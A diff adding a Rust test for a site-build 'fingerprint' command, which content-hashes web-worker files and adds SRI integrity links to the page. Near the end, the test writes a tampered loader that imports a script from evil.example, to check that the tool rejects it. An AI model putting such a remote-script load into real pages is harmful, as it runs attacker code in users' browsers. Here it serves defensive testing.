@@ -273,3 +273,56 @@ fn gaps_reports_what_collected_signals_could_not_find() {
     assert_eq!(missing.status.code(), Some(2));
     assert!(stderr(&missing).contains("cannot read the signals file /nonexistent/signals.jsonl"), "{}", stderr(&missing));
 }
+
+#[test]
+fn fingerprint_names_the_workers_files_by_content_and_lists_them_in_the_page() {
+    use base64::Engine as _;
+    use sha2::Digest as _;
+    let site = TempDir::new().unwrap();
+    let page = "<!doctype html>\n<html>\n  <head>\n    <title>Cuecard</title>\n  </head>\n  <body></body>\n</html>\n";
+    support::write_files(
+        site.path(),
+        &[
+            ("index.html", page),
+            ("meaning_worker_loader.js", "importScripts(\"./meaning_worker.js\");wasm_bindgen(\"./meaning_worker_bg.wasm\");"),
+            ("meaning_worker.js", "var wasm_bindgen = function () {};"),
+            ("meaning_worker_bg.wasm", "\0asm-not-really"),
+        ],
+    );
+    let site_arg = site.path().to_str().unwrap();
+    let first = cuecard(&["fingerprint", "--site", site_arg]);
+    assert!(first.status.success(), "{}", stderr(&first));
+
+    let names: Vec<String> = list_files(site.path()).iter().map(|p| p.file_name().unwrap().to_string_lossy().into_owned()).collect();
+    for fixed in ["meaning_worker_loader.js", "meaning_worker.js", "meaning_worker_bg.wasm"] {
+        assert!(!names.iter().any(|n| n == fixed), "{fixed} is gone: {names:?}");
+    }
+    let find = |suffix: &str| names.iter().find(|n| n.starts_with("meaning_worker-") && n.ends_with(suffix)).cloned().unwrap_or_else(|| panic!("no *{suffix} in {names:?}"));
+    let (loader, wasm) = (find("_loader.js"), find("_bg.wasm"));
+    let script = names.iter().find(|n| n.starts_with("meaning_worker-") && n.ends_with(".js") && !n.ends_with("_loader.js")).unwrap().clone();
+    let loader_text = std::fs::read_to_string(site.path().join(&loader)).unwrap();
+    assert_eq!(loader_text, format!("importScripts(\"./{script}\");wasm_bindgen(\"./{wasm}\");"));
+    assert_eq!(std::fs::read(site.path().join(&wasm)).unwrap(), b"\0asm-not-really");
+
+    // The page names each with the SRI hash of its bytes, inside <head>.
+    let page = std::fs::read_to_string(site.path().join("index.html")).unwrap();
+    for (part, name) in [("loader", &loader), ("script", &script), ("wasm", &wasm)] {
+        let bytes = std::fs::read(site.path().join(name)).unwrap();
+        let sri = format!("sha384-{}", base64::engine::general_purpose::STANDARD.encode(sha2::Sha384::digest(&bytes)));
+        let link = format!("<link rel=\"cuecard-worker\" data-worker=\"meaning_worker\" data-part=\"{part}\" href=\"./{name}\" integrity=\"{sri}\" />");
+        let at = page.find(&link).unwrap_or_else(|| panic!("{link} in {page}"));
+        assert!(at < page.find("</head>").unwrap());
+    }
+
+    // A rerun (the hook runs on every `trunk serve` rebuild) changes nothing.
+    let again = cuecard(&["fingerprint", "--site", site_arg]);
+    assert!(again.status.success(), "{}", stderr(&again));
+    assert_eq!(std::fs::read_to_string(site.path().join("index.html")).unwrap(), page);
+    assert_eq!(list_files(site.path()).len(), names.len());
+
+    // A loader that is not trunk's shim is an error that says which file.
+    support::write_files(site.path(), &[("meaning_worker_loader.js", "importScripts('https://evil.example/x.js');")]);
+    let wrong = cuecard(&["fingerprint", "--site", site_arg]);
+    assert_eq!(wrong.status.code(), Some(2));
+    assert!(stderr(&wrong).contains("meaning_worker_loader.js is not trunk's loader shim"), "{}", stderr(&wrong));
+}
